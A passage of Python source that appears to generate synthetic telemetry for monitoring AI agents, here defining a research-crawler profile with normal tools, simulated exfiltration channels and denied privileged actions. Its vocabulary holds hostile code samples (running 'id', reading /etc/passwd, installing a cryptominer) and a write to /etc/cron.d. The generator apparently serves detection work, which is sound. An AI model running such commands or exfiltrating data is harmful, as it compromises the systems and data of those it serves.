        "report": _words(
            "reports/q3-ledger.csv, reports/payroll-2026-10.xlsx, reports/vendors.csv, "
            "exports/budget-forecast.xlsx"
        ),
        "period": ("2026-Q3", "2026-10", "2026-11", "YTD"),
    },
)

RESEARCH_CRAWLER = Profile(
    group="research-crawler",
    versions=("3.0.2", "3.1.0"),
    tools=(
        ToolSpec(
            name="web_search",
            weight=3.0,
            duration_ms=LogNormal(450, 0.4),
            bytes_in=LogNormal(15_000, 0.5),
            bytes_out=LogNormal(250, 0.2),
            pool="search",
            args=(("q", "{topic}"),),
            secret="search-api-key",
            secret_rate=0.05,
            llm_rate=0.3,
        ),
        ToolSpec(
            name="fetch_url",
            weight=6.0,
            duration_ms=LogNormal(350, 0.6, 30_000),
            bytes_in=LogNormal(80_000, 1.0),
            bytes_out=LogNormal(600, 0.2),
            pool="sites",
            args=(("url", "{dest}/{path}"),),
            error_rate=0.06,
            llm_rate=0.1,
        ),
        ToolSpec(
            name="extract_text",
            weight=3.0,
            duration_ms=LogNormal(40, 0.5),
            bytes_in=LogNormal(200, 0.3),
            bytes_out=LogNormal(100, 0.2),
            args=(("format", "html"),),
            llm_rate=0.0,
        ),
        ToolSpec(
            name="summarize",
            weight=2.0,
            duration_ms=LogNormal(30, 0.4),
            bytes_in=LogNormal(100, 0.2),
            bytes_out=LogNormal(100, 0.2),
            args=(("max_words", 250),),
            llm_rate=1.0,
        ),
        ToolSpec(
            name="save_note",
            weight=1.0,
            duration_ms=LogNormal(60, 0.4),
            bytes_in=LogNormal(150, 0.2),
            bytes_out=LogNormal(3000, 0.5),
            pool="notes",
            args=(("title", "{topic}"),),
            secret="notes-api-token",
            secret_rate=0.1,
            llm_rate=0.0,
        ),
    ),
    transitions={
        "web_search": {"fetch_url": 0.9, "web_search": 0.1},
        "fetch_url": {"extract_text": 0.6, "fetch_url": 0.4},
        "extract_text": {"summarize": 0.6, "fetch_url": 0.4},
        "summarize": {"save_note": 0.4, "web_search": 0.4, "fetch_url": 0.2},
        "save_note": {"web_search": 1.0},
    },
    pools={
        "search": DestinationPool("host", shared=("api.search.brave.com",)),
        "sites": DestinationPool(
            "url",
            shared=("https://en.wikipedia.org", "https://arxiv.org"),
            per_agent=4,
            template="https://{site}",
        ),
        "notes": DestinationPool("host", shared=("api.notion.com",)),
    },
    models=(_model(_GPT_4O_MINI, 0.7), _model(_LLAMA, 0.3)),
    events_per_minute=36.0,
    daily_curve=_BATCH_NIGHTS,
    session_actions=LogNormal(25, 0.5, 150),
    idle_s=LogNormal(50, 0.6, 1200),
    cpu_pct=LogNormal(25, 0.35, 100),
    memory_mb=LogNormal(900, 0.25),
    exfil=(
        ExfilChannel(
            event_type="tool_call",
            kind="url",
            weight=2.0,
            bytes_out=LogNormal(15_000_000, 0.8),
            tool="fetch_url",
            args=(("url", "{dest}"), ("method", "POST")),
        ),
        ExfilChannel(
            event_type="network", kind="host", weight=1.0, bytes_out=LogNormal(15_000_000, 0.8)
        ),
    ),
    utc_offsets=(0,),
    threads=LogNormal(32, 0.2),
    open_fds=LogNormal(150, 0.3),
    untrusted_tools=("fetch_url",),
    privileged_tools=(
        ToolSpec(
            name="execute_code",
            weight=1.2,
            duration_ms=LogNormal(1500, 0.7),
            bytes_in=LogNormal(2000, 0.7),
            bytes_out=LogNormal(600, 0.4),
            args=(("language", "python"), ("code", "{code}")),
            error_rate=0.1,
            denied_rate=0.2,
        ),
        ToolSpec(
            name="send_email",
            weight=1.0,
            duration_ms=LogNormal(350, 0.5),
            bytes_in=LogNormal(300, 0.3),
            bytes_out=LogNormal(8000, 0.6),
            pool="outbound",
            args=(("to", "{dest}"), ("subject", "{topic}")),
            denied_rate=0.3,
        ),
        ToolSpec(
            name="post_to_social",
            weight=0.8,
            duration_ms=LogNormal(600, 0.4),
            bytes_in=LogNormal(500, 0.3),
            bytes_out=LogNormal(1500, 0.4),
            pool="social",
            args=(("text", "New findings on {topic}"),),
            denied_rate=0.3,
        ),
        ToolSpec(
            name="write_file",
            weight=0.8,
            duration_ms=LogNormal(15, 0.5),
            bytes_in=LogNormal(60, 0.2),
            bytes_out=LogNormal(2000, 0.6),
            args=(("path", "/etc/cron.d/{word}"),),
            denied_rate=0.4,
        ),
    ),
    admin_pools={
        "outbound": DestinationPool("email", shared=("press@northwind.com",)),
        "social": DestinationPool("host", shared=("api.x.com",)),
    },
    rollout_destinations={
        "sites": ("https://www.biorxiv.org", "https://api.openalex.org"),
        "search": ("api.bing.microsoft.com",),
    },
    vocab={
        "code": _words(
            "import os; os.system('id'), open('/etc/passwd').read(), "
            "import socket; socket.create_connection(('10.0.0.5', 22)), "
            "import subprocess; subprocess.run(['pip', 'install', 'cryptominer'])"
        ),
        "topic": _words(
            "battery chemistry, protein folding, carbon capture, quantum error correction, "
            "supply chain risk, llm evaluation, urban heat islands"
        ),
        "site": _words(
            "www.nature.com, www.science.org, pubmed.ncbi.nlm.nih.gov, www.reuters.com, "
            "www.bbc.co.uk, github.com, openreview.net, www.semanticscholar.org, "
            "docs.python.org, ourworldindata.org, www.economist.com, stackoverflow.com"
        ),
        "path": _words(
            "abs/2410.01234, wiki/Lithium-ion_battery, articles/s41586-024-0001, papers/1234, "
            "news/technology, pdf/2409.11111, index.html"
        ),
    },
)

PROFILES: tuple[Profile, ...] = (SUPPORT_BOT, CODING_AGENT, FINANCE_ASSISTANT, RESEARCH_CRAWLER)
PROFILE_BY_GROUP: dict[str, Profile] = {p.group: p for p in PROFILES}
